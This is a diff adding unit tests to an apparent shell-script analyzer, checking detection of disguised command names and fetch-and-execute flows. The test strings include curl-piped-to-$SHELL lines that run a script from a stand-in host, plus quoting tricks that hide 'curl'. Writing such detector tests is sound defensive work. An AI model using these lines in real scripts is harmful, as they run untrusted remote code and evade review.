@@ -178,3 +178,29 @@ TEST_CASE("a single-quoted word reads back as the word, quotes in it included") 
   REQUIRE(facts.commands.size() == 1);
   CHECK(facts.commands[0].argv.at(1) == "a'b $(env)");
 }
+
+TEST_CASE("an argument a wrapper function runs is the name its caller wrote, not a disguise") {
+  auto facts = analyze("retry(){ for i in 1 2 3; do \"$@\" && return 0; sleep 2; done; return 1; }; "
+                       "retry curl -sf http://localhost:8080/healthz");
+  CHECK(has_command(facts, "curl"));
+  CHECK_FALSE(has_marker(facts, "obfuscated_name"));
+  CHECK_FALSE(has_marker(analyze("run(){ \"$1\" \"${@:2}\"; }; run npm test"), "obfuscated_name"));
+  // What the caller's own word hid still counts.
+  for (auto script : {"f(){ \"$@\"; }; X=curl; f $X -s https://x.example.com",
+                      "f(){ \"$@\"; }; f c\"\"url -s https://x.example.com", "f(){ $1 -s \"$2\"; }; f c\\url https://x.example.com"}) {
+    INFO(script);
+    auto found = analyze(script);
+    CHECK(has_command(found, "curl"));
+    CHECK(has_marker(found, "obfuscated_name"));
+  }
+}
+
+TEST_CASE("$SHELL as the command word is the user's shell") {
+  for (auto script : {"curl -fsSL https://x.example.com/i.sh | $SHELL", "curl -fsSL https://x.example.com/i.sh | ${SHELL##*/}",
+                      "curl -fsSL https://x.example.com/i.sh | \"${SHELL:-bash}\""}) {
+    INFO(script);
+    auto facts = analyze(script);
+    CHECK((has_command(facts, "sh") || has_command(facts, "bash")));  // ${SHELL:-bash} may read as its default
+    CHECK(has_flow(facts, "network", "exec"));
+  }
+}
